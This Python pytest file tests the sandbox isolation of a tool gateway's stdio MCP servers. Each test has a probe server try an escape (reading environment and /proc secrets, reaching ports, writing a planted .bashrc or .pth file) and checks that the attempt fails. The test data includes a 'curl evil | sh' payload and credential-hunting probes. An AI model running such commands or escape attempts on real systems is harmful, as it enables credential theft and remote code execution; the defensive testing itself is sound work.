"""A stdio MCP server in its box: one test per isolation property, against a real server
process (``probe_server.py``) whose tools try the escape; each test checks on the host that
the effect is absent (the secret not returned, the listener never connected to, the file not
written). The gateway here is the test process, as root (as CI runs it)."""

from __future__ import annotations

import http.server
import json
import logging
import os
import socket
import subprocess
import sys
import threading
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import grpc
import pytest

from keel_tool_gateway.adapters.mcp.connection import McpConnection
from keel_tool_gateway.adapters.mcp.settings import McpServerSettings

PROBE = Path(__file__).with_name("probe_server.py")
SECRET = "keel-mcp-box-secret-7f3a"
BOX_UID = 65533

pytestmark = pytest.mark.skipif(
    os.getuid() != 0, reason="the box's uid switch and probes run as root (as CI does)"
)

Probe = Callable[..., Awaitable[str]]


def settings(**extra: Any) -> McpServerSettings:
    return McpServerSettings.model_validate(
        {
            "name": "probe",
            "transport": "stdio",
            "command": sys.executable,
            "args": [str(PROBE)],
            "timeout_s": 10.0,
            **extra,
        }
    )


@asynccontextmanager
async def probe_server(**extra: Any) -> AsyncIterator[Probe]:
    connection = McpConnection(settings(**extra))
    await connection.open()

    async def call(tool: str, **arguments: Any) -> str:
        return await connection.call(tool, arguments)

    try:
        yield call
    finally:
        await connection.aclose()


@pytest.fixture
def secret_env(monkeypatch: pytest.MonkeyPatch) -> str:
    """A secret in the gateway's environment, as its Kafka and trust credentials are."""
    monkeypatch.setenv("KEEL_TOOL_GATEWAY_TEST_SECRET", SECRET)
    return SECRET


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A TCP listener on the host's loopback: a probe that reaches it leaves a connection
    waiting in its backlog."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(8)
        sock.setblocking(False)
        yield sock


def never_connected(sock: socket.socket) -> bool:
    try:
        conn, _ = sock.accept()
    except BlockingIOError:
        return True
    conn.close()
    return False


async def test_the_environment_is_exactly_what_the_config_declares(secret_env: str) -> None:
    async with probe_server(env={"DECLARED": "yes"}) as call:
        env = json.loads(await call("environment"))
    assert secret_env not in json.dumps(env)
    # Not even the SDK's defaults (USER, LOGNAME, SHELL, the gateway's HOME).
    assert set(env) == {"PATH", "HOME", "TMPDIR", "LANG", "DECLARED"}
    assert env["DECLARED"] == "yes"
    assert env["HOME"] != os.environ.get("HOME")


@pytest.fixture
def gateway_process() -> Iterator[subprocess.Popen[bytes]]:
    """A process of the gateway's user with the secret in its environment from its start
    (/proc/<pid>/environ shows the environment a process was started with, not later
    changes): what a server would hunt for."""
    process = subprocess.Popen(
        [sys.executable, "-c", "import sys; print('ready', flush=True); sys.stdin.read()"],
        env={**os.environ, "KEEL_TOOL_GATEWAY_TEST_SECRET": SECRET},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == b"ready\n"  # running, its environ in place
        assert SECRET in Path(f"/proc/{process.pid}/environ").read_text()
        yield process
    finally:
        assert process.stdin is not None
        process.stdin.close()
        process.wait(10)
        if process.stdout is not None:
            process.stdout.close()


async def test_the_gateways_proc_environ_is_out_of_sight(
    gateway_process: subprocess.Popen[bytes],
) -> None:
    async with probe_server() as call:
        found = await call("proc_environ", pid=gateway_process.pid)
        seen = json.loads(await call("identity"))
    assert SECRET not in found
    assert gateway_process.pid not in seen["pids"]
    assert max(seen["pids"]) < 10  # a private /proc: only the box's own processes


async def test_the_server_runs_as_its_own_uid() -> None:
    async with probe_server() as call:
        seen = json.loads(await call("identity"))
    assert (seen["uid"], seen["gid"]) == (BOX_UID, BOX_UID)
    assert seen["uid"] != os.getuid()


async def test_a_grpc_port_the_gateway_can_reach_is_unreachable(listener: socket.socket) -> None:
    server = grpc.aio.server()
    port = server.add_insecure_port("127.0.0.1:0")
    await server.start()
    try:
        async with probe_server() as call:
            to_grpc = await call("connect", host="127.0.0.1", port=port)
            to_listener = await call("connect", host="127.0.0.1", port=listener.getsockname()[1])
    finally:
        await server.stop(None)
    assert to_grpc.startswith("ERR"), to_grpc
    assert to_listener.startswith("ERR"), to_listener
    assert never_connected(listener)


@pytest.mark.kafka
async def test_the_kafka_broker_is_unreachable(kafka_bootstrap: str) -> None:
    host, _, port = kafka_bootstrap.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=5):
        pass  # the gateway itself reaches it
    async with probe_server() as call:
        result = await call("connect", host=host, port=int(port))
    assert result.startswith("ERR"), result


async def test_an_undeclared_host_cannot_be_fetched(listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    async with probe_server() as call:
        by_address = await call("fetch", url=f"http://127.0.0.1:{port}/")
        by_name = await call("fetch", url=f"http://localhost:{port}/")
        families = json.loads(await call("socket_families"))
    assert by_address.startswith("ERR"), by_address
    assert by_name.startswith("ERR"), by_name
    assert never_connected(listener)
    assert all(opened.startswith("ERR") for opened in families.values()), families


async def test_an_undeclared_directory_can_be_neither_written_nor_read(tmp_path: Path) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET)
    target = tmp_path / "planted.pth"
    # The gateway's home: where a planted rc file would run outside any box.
    home_file = Path.home() / f".keel-mcp-box-probe-{os.getpid()}"
    try:
        async with probe_server() as call:
            read = await call("read", path=str(secret_file))
            written = await call("write", path=str(target), text="import os")
            home = await call("write", path=str(home_file), text="x")
        assert SECRET not in read
        assert written.startswith("ERR"), written
        assert home.startswith("ERR"), home
        assert not target.exists()
        assert not home_file.exists()
    finally:
        home_file.unlink(missing_ok=True)


async def test_declared_directories_are_readable_and_writable_as_declared(
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "in.txt").write_text("declared content")
    out = tmp_path / "out"
    out.mkdir()
    os.chown(out, BOX_UID, BOX_UID)
    extra = {"read_only_paths": [str(PROBE), str(data)], "writable_paths": [str(out)]}
    async with probe_server(**extra) as call:
        read = await call("read", path=str(data / "in.txt"))
        into_read_only = await call("write", path=str(data / "x.txt"), text="no")
        written = await call("write", path=str(out / "result.txt"), text="from the box")
    assert read == "declared content"
    assert into_read_only.startswith("ERR"), into_read_only
    assert not (data / "x.txt").exists()
    assert written == "written"
    assert (out / "result.txt").read_text() == "from the box"
    assert (out / "result.txt").stat().st_uid == BOX_UID


class _Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - the standard library's name
        self.server.hits += 1  # type: ignore[attr-defined]
        body = b"hello from the declared host"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def declared_host() -> Iterator[http.server.ThreadingHTTPServer]:
    """A plain HTTP server on the host's loopback that counts its requests."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    server.hits = 0  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join(10)


@pytest.fixture
def echo_host() -> Iterator[int]:
    """A TCP echo server (one connection) on the host's loopback: a CONNECT target."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(1)

        def echo() -> None:
            conn, _ = sock.accept()
            with conn:
                conn.sendall(conn.recv(4096))

        thread = threading.Thread(target=echo, daemon=True)
        thread.start()
        yield sock.getsockname()[1]


async def test_declared_hosts_are_reached_through_the_proxy_and_nothing_else(
    declared_host: http.server.ThreadingHTTPServer,
    echo_host: int,
    listener: socket.socket,
) -> None:
    port = declared_host.server_address[1]
    undeclared = listener.getsockname()[1]
    declared = [f"127.0.0.1:{port}", f"localhost:{port}", f"127.0.0.1:{echo_host}"]
    async with probe_server(allowed_hosts=declared) as call:
        fetched = await call("fetch", url=f"http://127.0.0.1:{port}/")
        tunnelled = await call("tunnel", target=f"127.0.0.1:{echo_host}", payload="ping")
        hits = declared_host.hits  # type: ignore[attr-defined]
        # A declared name that resolves to a private address: refused by the proxy.
        by_name = await call("fetch", url=f"http://localhost:{port}/")
        not_declared = await call("fetch", url=f"http://127.0.0.1:{undeclared}/")
        tunnel_undeclared = await call("tunnel", target=f"127.0.0.1:{undeclared}", payload="x")
        # Around the proxy: the box's loopback is its own, with nothing behind it.
        direct = await call("connect", host="127.0.0.1", port=port)
        families = json.loads(await call("socket_families"))
    assert fetched == "hello from the declared host"
    assert tunnelled.endswith("ping"), tunnelled
    assert by_name.startswith("ERR"), by_name
    assert "403" in by_name, by_name
    assert declared_host.hits == hits  # type: ignore[attr-defined]
    assert not_declared.startswith("ERR"), not_declared
    assert "403" in not_declared, not_declared
    assert tunnel_undeclared.startswith("ERR"), tunnel_undeclared
    assert "403" in tunnel_undeclared, tunnel_undeclared
    assert never_connected(listener)
    assert direct.startswith("ERR"), direct
    # AF_INET (to reach the relay) and nothing else: not the proxy's unix socket directly.
    assert families["inet"] == "opened"
    assert all(families[name].startswith("ERR") for name in ("unix", "inet6", "netlink"))


def test_declared_hosts_must_be_host_and_port_and_boxed() -> None:
    with pytest.raises(ValueError, match="not host:port"):
        settings(allowed_hosts=["api.example.com"])
    with pytest.raises(ValueError, match="needs isolation 'box'"):
        settings(allowed_hosts=["api.example.com:443"], isolation="none")


async def test_isolation_none_is_the_plain_child_and_is_warned(
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.WARNING)
    async with probe_server(isolation="none") as call:
        seen = json.loads(await call("identity"))
    assert seen["uid"] == os.getuid()
    assert any("WITHOUT isolation" in r.getMessage() for r in caplog.records)


USER_GATEWAY = Path(__file__).with_name("user_gateway.py")
GATEWAY_UID = GATEWAY_GID = 4242  # the unprivileged gateway, as in the sandbox escape suite


def test_a_non_root_gateway_boxes_its_server_too(
    tmp_path: Path, listener: socket.socket, declared_host: http.server.ThreadingHTTPServer
) -> None:
    """The gateway as the Docker image runs it (not root): the server still gets a user
    namespace of its own, sees neither the gateway's environment nor its /proc, reaches no
    port but its declared host (through the proxy) and writes nothing of the gateway
    user's."""
    home = tmp_path / "home"
    home.mkdir()
    temp = tmp_path / "temp"
    temp.mkdir()
    for path in (tmp_path, home, temp):
        os.chown(path, GATEWAY_UID, GATEWAY_GID)
    planted = home / ".bashrc"
    port = declared_host.server_address[1]
    server = settings(name="probeuser", allowed_hosts=[f"127.0.0.1:{port}"])
    server = server.model_dump(mode="json")
    config = {
        "uid": GATEWAY_UID,
        "gid": GATEWAY_GID,
        "reachable": [str(Path(os.path.realpath(sys.executable)).parent.parent)],
        "stash": str(tmp_path / "stash"),
        "env": {
            "HOME": str(home),
            "TMPDIR": str(temp),
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "KEEL_TOOL_GATEWAY_TEST_SECRET": SECRET,
        },
        "server": server,
        "calls": {
            "env": ["environment", {}],
            "proc": ["proc_environ", {"pid": "$gateway_pid"}],
            "identity": ["identity", {}],
            "connect": ["connect", {"host": "127.0.0.1", "port": listener.getsockname()[1]}],
            "write": ["write", {"path": str(planted), "text": "curl evil | sh"}],
            "declared": ["fetch", {"url": f"http://127.0.0.1:{port}/"}],
            "undeclared": ["fetch", {"url": f"http://127.0.0.1:{listener.getsockname()[1]}/"}],
        },
    }
    done = subprocess.run(
        [sys.executable, str(USER_GATEWAY), json.dumps(config)],
        env={**os.environ, "KEEL_TOOL_GATEWAY_TEST_SECRET": SECRET},  # in its /proc environ
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-4000:]
    report = json.loads(done.stdout.splitlines()[-1])
    results = report["results"]
    assert report["uid"] == GATEWAY_UID
    assert SECRET not in results["env"]
    assert SECRET not in results["proc"]
    assert json.loads(results["identity"])["uid"] == BOX_UID  # mapped onto 4242 outside
    assert results["connect"].startswith("ERR"), results["connect"]
    assert never_connected(listener)
    assert results["write"].startswith("ERR"), results["write"]
    assert not planted.exists()
    assert results["declared"] == "hello from the declared host"
    assert "403" in results["undeclared"], results["undeclared"]
